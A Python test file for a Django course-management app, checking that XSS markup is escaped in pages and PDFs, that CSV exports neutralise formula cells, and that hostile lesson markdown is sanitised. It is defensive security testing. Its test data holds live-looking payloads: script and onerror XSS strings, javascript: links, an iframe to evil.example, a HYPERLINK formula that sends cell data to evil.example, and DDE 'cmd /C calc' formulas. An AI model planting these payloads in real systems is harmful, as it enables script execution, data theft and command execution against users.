"""Stored XSS and CSV formula injection: names, job titles, department names, licence numbers, employee
ids and free text (evaluation comments, override reasons, sign-off notes) carrying markup or formulas
reach the report pages, the admin, the public verification page, certificate and evidence PDFs and CSV
exports as inert text.

- HTML: the raw markup never appears; its escaped form does (so the text was really rendered there).
- PDF: text extraction shows the markup as literal characters (WeasyPrint did not interpret it) and
  nothing was fetched for the <img>.
- CSV: every cell starting with = + - @ tab or carriage return is prefixed with a quote; the text is
  otherwise kept whole. (Known gap, marked xfail below: a spreadsheet whose list separator is ";"
  splits a comma-separated file at a ";" inside a cell, where a formula may start.)"""

import csv
import io
import re
import zipfile
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone
from django.utils.html import escape

from accounts.models import Role
from courses.assignments import overrides
from courses.catalog import services
from courses.certificates import services as certificates
from courses.enrollment import services as enrollment_services
from courses.evidence import services as evidence
from courses.models import CourseEvaluation, Enrollment, ExportJob
from courses.reports import exports
from tests.certificate_helpers import completed_enrollment, make_course, pdf_all_bytes, pdf_text, squeezed
from tests.course_helpers import load_tiny, read_all_lessons, take_quiz
from tests.factories import DepartmentFactory, UserFactory

pytestmark = pytest.mark.django_db

XSS = "<script>alert(1)</script><img src=x onerror=alert(2)><b>bold</b>"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def world(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    tiny = load_tiny(tmp_path)
    dept = DepartmentFactory(name=f"Ward {XSS}", code="ward")
    supervisor = UserFactory(username="sup", role=Role.SUPERVISOR, department=dept)
    admin = UserFactory(username="root", role=Role.ADMIN, is_staff=True, is_superuser=True)
    xss = UserFactory(
        username="xss",
        first_name=XSS,
        last_name="Learner",
        job_title=XSS,
        licence_number="<i>LIC</i>-1",
        department=dept,
        supervisor=supervisor,
    )
    formula_people = [
        UserFactory(
            username=f"f{i}",
            first_name=formula,
            last_name="Z",
            employee_id=formula,
            department=dept,
            supervisor=supervisor,
        )
        for i, formula in enumerate(FORMULAS)
    ]
    overdue = timezone.localdate() - timedelta(days=5)
    for person in [xss, *formula_people]:
        enrollment_services.enroll(user=person, course=tiny.course, due_date=overdue)
    read_all_lessons(xss, tiny.version)
    take_quiz(xss, tiny.modules[0].quiz, tiny.specs, correct=False)
    enrollment = Enrollment.objects.get(user=xss, course=tiny.course)
    overrides.grant_override(
        granted_by=supervisor,
        person_id=xss.pk,
        kind="due_date_extension",
        reason=f"Reason {XSS}",
        enrollment_id=enrollment.pk,
        new_due_date=timezone.localdate() + timedelta(days=30),
    )
    cert_course = make_course(slug="cert-course", title="Overdose response")
    cert_enrollment = completed_enrollment(xss, cert_course, completed_at=timezone.now() - timedelta(days=1))
    certificate = certificates.issue_certificate(enrollment_id=cert_enrollment.pk).certificate
    Enrollment.objects.filter(pk=enrollment.pk).update(status="completed", completed_at=timezone.now())
    CourseEvaluation.objects.create(
        enrollment=enrollment,
        ratings={"relevance": 5, "clarity": 5, "confidence": 5},
        comments=f"Comment {XSS}",
        submitted_at=timezone.now(),
    )
    clients = {}
    for name, user in (("supervisor", supervisor), ("admin", admin), ("learner", xss)):
        clients[name] = Client()
        clients[name].force_login(user)
    return {
        "tiny": tiny,
        "dept": dept,
        "supervisor": supervisor,
        "admin": admin,
        "xss": xss,
        "certificate": certificate,
        "clients": clients,
    }


def assert_inert(page: str, where: str) -> None:
    assert "<script>alert(1)</script>" not in page, where
    assert "onerror=alert(2)>" not in page.replace("&gt;", ""), where
    assert "<b>bold</b>" not in page, where
    assert escape(XSS) in page, f"{where}: the hostile text was not shown at all, so nothing was tested"


def test_names_and_free_text_are_escaped_in_every_page(world):
    w = world
    pages = [
        ("supervisor", "/team/"),
        ("supervisor", "/team/overdue/"),
        ("supervisor", f"/team/people/{w['xss'].pk}/"),
        ("admin", "/team/"),
        ("admin", "/team/evidence/"),
        ("admin", f"/admin/courses/course/{w['tiny'].course.pk}/evaluations/"),
        ("admin", f"/admin/accounts/user/{w['xss'].pk}/change/"),
        ("admin", "/admin/accounts/user/"),
        (None, f"/verify/{w['certificate'].verify_code}/"),
    ]
    for who, url in pages:
        client = w["clients"][who] if who else Client()
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        assert_inert(response.content.decode(), url)


def test_pdfs_show_markup_as_text_and_fetch_nothing(world, tmp_path):
    w = world
    response = w["clients"]["learner"].get(f"/certificates/{w['certificate'].pk}/pdf/")
    pdf = b"".join(response.streaming_content) if response.streaming else response.content
    text = pdf_text(pdf, tmp_path)
    assert "<script>alert(1)</script>" in text and "<b>bold</b>" in text, text[:500]
    assert "<i>LIC</i>-1" in text
    assert b"/URI" not in pdf_all_bytes(pdf)  # no link was made out of the markup
    pack = evidence.request_pack(
        requested_by=w["admin"],
        department_id=w["dept"].pk,
        date_from=timezone.localdate() - timedelta(days=30),
        date_to=timezone.localdate(),
    )
    pack = evidence.build_pack(pack_id=pack.pk)
    with zipfile.ZipFile(pack.file.open("rb")) as archive:
        names = archive.namelist()
        summary = next(n for n in names if n.endswith(".pdf") and "summary" in n)
        summary_text = pdf_text(archive.read(summary), tmp_path)
        csvs = {n: archive.read(n).decode() for n in names if n.endswith(".csv")}
    assert squeezed(f"Ward {XSS}") in squeezed(summary_text), summary_text[:500]  # department name, as text
    assert squeezed(f"{XSS} Learner") in squeezed(summary_text)  # the person's name, as text
    for name, content in csvs.items():
        assert_no_live_formula(content, name)


def assert_no_live_formula(content: str, where: str) -> int:
    checked = 0
    for row in csv.reader(io.StringIO(content)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (where, cell)
            if cell.startswith("'") and cell[1:].startswith(("=", "+", "-", "@", "\t", "\r")):
                checked += 1
    return checked


@pytest.mark.parametrize("kind", ["matrix", "overdue", "answers"])
def test_csv_exports_neutralise_every_formula_cell(world, kind):
    w = world
    job = exports.request_export(requested_by=w["admin"], kind=kind, params={})
    exports.run_export(job_id=job.pk)
    job = ExportJob.objects.get(pk=job.pk)
    assert job.status == ExportJob.Status.DONE, job.error
    content = job.file.open("rb").read().decode()
    neutralised = assert_no_live_formula(content, kind)
    if kind in ("matrix", "overdue"):
        # every hostile name and employee id is there, neutralised and otherwise whole
        for formula in FORMULAS:
            assert ("'" + formula) in [cell for row in csv.reader(io.StringIO(content)) for cell in row], (
                formula
            )
        assert neutralised >= 2 * len(FORMULAS)
        assert XSS in content  # CSV is data: markup stays as typed (a spreadsheet does not run it)


def test_the_download_is_served_as_an_attachment_of_type_csv(world):
    w = world
    job = exports.request_export(requested_by=w["supervisor"], kind="overdue", params={})
    exports.run_export(job_id=job.pk)
    response = w["clients"]["supervisor"].get(f"/team/exports/job/{job.pk}/download/")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment")
    assert response.get("X-Content-Type-Options", "nosniff") == "nosniff"


@pytest.mark.xfail(
    strict=True,
    reason="Known gap, not fixed here: opened in a semicolon-separator locale, a cell 'Bob;=1+1' splits "
    "into 'Bob' and '=1+1'. Quoting every cell does not stop such a reader, and neutralising after each "
    "';' would alter the text; the fix (an explicit separator or an .xlsx export) is a product decision.",
)
def test_a_formula_after_a_semicolon_survives_a_semicolon_locale_reader(world):
    w = world
    UserFactory(
        username="semi",
        first_name="Bob;=1+1;",
        last_name="Z",
        department=w["dept"],
        supervisor=w["supervisor"],
    )
    job = exports.request_export(requested_by=w["admin"], kind="matrix", params={})
    exports.run_export(job_id=job.pk)
    content = ExportJob.objects.get(pk=job.pk).file.open("rb").read().decode()
    cells = [cell for row in csv.reader(io.StringIO(content), delimiter=";") for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


HOSTILE_MARKDOWN = """
<script>alert(1)</script>

<img src=x onerror=alert(2)>

[a link](javascript:alert(3)) and [another](data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==)

<iframe src="//evil.example/"></iframe>

<a href="#" onclick="alert(6)">inline handler</a>
"""


def test_a_hostile_markdown_image_is_refused_when_the_course_loads(tmp_path):
    from quizzes.errors import ContentError
    from tests.course_helpers import append_lesson_text, write_tiny_course

    path = write_tiny_course(tmp_path, slug="hostile-image")
    append_lesson_text(path, "ma", 1, "![an image](javascript:alert(5))")
    with pytest.raises(ContentError, match=r"image 'javascript:alert\(5\)?'"):
        services.load_course(path=path, publish=True)


def test_hostile_markdown_in_lesson_content_is_sanitised(tmp_path, client):
    # Markdown images never reach the page from content: the loader refuses them (test above), and the
    # sanitiser's own image rule is tested in tests/unit/test_learner_pages_ux.py.
    from tests.course_helpers import append_lesson_text, write_tiny_course

    path = write_tiny_course(tmp_path, slug="hostile-content")
    append_lesson_text(path, "ma", 1, HOSTILE_MARKDOWN)
    report = services.load_course(path=path, publish=True)
    learner = UserFactory()
    enrollment_services.enroll(user=learner, course=report.course)
    client.force_login(learner)
    lesson = report.version.modules.get(key="ma").lessons.order_by("position").first()
    page = client.get(f"/lessons/{lesson.pk}/").content.decode()
    body = page[page.index('class="lesson-body"') :]
    body = body[: body.index("</article>")] if "</article>" in body else body
    assert "a link" in body and "inline handler" in body  # the text is there, as text...
    tags = re.findall(r"<[a-zA-Z][^>]*>", body)
    for tag in tags:  # ...and no element can run anything
        assert not re.match(r"<(script|iframe|object|embed)\b", tag, re.I), tag
        assert not re.search(r"\son\w+\s*=", tag, re.I), tag
        assert not re.search(r"(href|src)\s*=\s*[\"']?\s*(javascript|data|vbscript):", tag, re.I), tag
    assert "<script>alert(1)</script>" not in body and "&lt;script&gt;alert(1)" in body
